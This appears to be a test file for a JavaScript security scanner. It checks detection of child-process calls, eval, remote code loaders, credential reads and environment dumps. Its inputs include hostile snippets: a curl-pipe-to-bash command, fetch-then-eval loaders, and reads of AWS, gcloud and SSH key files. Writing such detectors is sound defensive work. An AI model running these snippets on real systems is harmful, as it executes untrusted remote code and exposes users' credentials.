import assert from "node:assert/strict";
import { test } from "node:test";
import { analyzeFile } from "./file.js";
import { analyzeJavaScript } from "./javascript.js";
import { loadTypeScript } from "./typescript.js";

function rules(source: string): string[] {
  return analyzeJavaScript(source, "x.js").findings.map((f) => `${f.rule}:${f.severity}:${f.line}`);
}

test("child_process is recognised through destructuring, renaming and TypeScript's interop output", () => {
  assert.deepEqual(rules('const { exec: run } = require("node:child_process");\nrun(userInput);'), [
    "child-process-dynamic:medium:2",
  ]);
  assert.deepEqual(
    rules('const child_process_1 = require("child_process");\n(0, child_process_1.execSync)(cmd);'),
    ["child-process-dynamic:medium:2"],
  );
  assert.deepEqual(rules('import { spawn } from "child_process";\nspawn("git", ["status"]);'), [
    "child-process:low:2",
  ]);
  assert.deepEqual(
    rules('const cp = require("child_process");\ncp.exec("curl -s https://x.example/i.sh | bash");'),
    ["remote-code:high:2"],
  );
});

test("regular expressions' exec and words in comments are not mistaken for code", () => {
  assert.deepEqual(
    rules('// never eval(input) or require("child_process").exec(x)\nconst m = /a/.exec(text);'),
    [],
  );
});

test("eval and the Function constructor are reported, more strongly when their code is built at run time", () => {
  assert.deepEqual(rules('eval("1 + 1");'), ["dynamic-code:low:1"]);
  assert.deepEqual(rules("const f = new Function(body);"), ["dynamic-code:medium:1"]);
  assert.deepEqual(rules("globalThis.eval(code);"), ["dynamic-code:medium:1"]);
  assert.deepEqual(rules('const vm = require("vm");\nvm.runInNewContext(src, {});'), [
    "dynamic-code:medium:2",
  ]);
});

test("code fetched and executed in the same function is a remote code loader; in different functions it is not", () => {
  const loader = "async function update() {\n  const res = await fetch(url);\n  eval(await res.text());\n}";
  assert.ok(rules(loader).includes("remote-code:high:3"));
  const apart = "async function a() { return fetch(url); }\nfunction b(code) { return eval(code); }";
  assert.ok(!rules(apart).some((r) => r.startsWith("remote-code")));
  assert.deepEqual(rules('await import("https://cdn.example.com/payload.mjs");'), ["remote-code:high:1"]);
});

test("hard-coded hosts are listed, raw public IP addresses flagged, local addresses ignored", () => {
  const analysis = analyzeJavaScript(
    'const net = require("net");\nnet.connect(443, "198.51.100.4");\nnet.connect(8080, "127.0.0.1");\nfetch("https://api.example.com/v1/items");',
    "x.js",
  );
  assert.deepEqual(
    analysis.findings.map((f) => `${f.rule}:${f.line}`),
    ["network-raw-ip:2", "network-hardcoded-host:4"],
  );
  assert.deepEqual(
    analysis.endpoints.map((e) => e.host),
    ["198.51.100.4", "127.0.0.1", "api.example.com"],
  );
});

test("reads of credential files are found however the path is assembled", () => {
  const cases = [
    'const fs = require("fs"); const os = require("os");\nfs.readFileSync(`${os.homedir()}/.aws/credentials`);',
    'import { readFile } from "fs/promises"; import { homedir } from "os"; import { join } from "path";\nconst dir = join(homedir(), ".config", "gcloud");\nawait readFile(join(dir, "credentials.db"));',
    'const fs = require("fs");\nfs.createReadStream(process.env.HOME + "/.ssh/id_ed25519");',
  ];
  for (const source of cases) {
    const analysis = analyzeJavaScript(source, "x.js");
    assert.ok(analysis.facts.credentialRead, source);
    assert.equal(analysis.findings.filter((f) => f.rule === "credential-read").length, 1, source);
  }
  assert.equal(
    analyzeJavaScript('const fs = require("fs");\nfs.readFileSync("./config.json");', "x.js").facts
      .credentialRead,
    false,
  );
});

test("serialising the whole environment is flagged; listing or copying it for a child process is not", () => {
  assert.deepEqual(rules("const body = JSON.stringify(process.env);"), ["env-bulk-read:medium:1"]);
  assert.deepEqual(rules('fetch(u, { method: "POST", body: process.env });'), ["env-bulk-read:medium:1"]);
  assert.deepEqual(
    rules("const names = Object.keys(process.env);\nspawn(cmd, args, { env: { ...process.env, A: '1' } });"),
    [],
  );
});

test("a file the parser cannot read falls back to text patterns and says so", () => {
  const analysis = analyzeFile(
    "broken.js",
    Buffer.from('const x = ;\nconst y = require("child_process");\neval(z)'),
    undefined,
  );
  assert.ok(analysis?.parseError);
  assert.deepEqual(
    analysis?.findings.map((f) => f.rule),
    ["unparsed-code", "child-process-dynamic", "dynamic-code"],
  );
});

test("TypeScript is stripped with the compiler and findings point at the original lines", async () => {
  const ts = await loadTypeScript();
  assert.ok(ts, "typescript is installed as a development dependency");
  const source = [
    "interface Options {",
    "  url: string;",
    "  retries: number;",
    "}",
    "",
    "type Loader = (code: string) => unknown;",
    "",
    "export async function run(options: Options): Promise<unknown> {",
    "  const response = await fetch(options.url);",
    "  return eval(await response.text()) as unknown;",
    "}",
  ].join("\n");
  const analysis = analyzeFile("src/run.ts", Buffer.from(source), ts);
  assert.equal(analysis?.parseError, undefined);
  assert.deepEqual(
    analysis?.findings.map((f) => `${f.rule}:${f.line}`),
    ["dynamic-code:10", "remote-code:10"],
  );
});
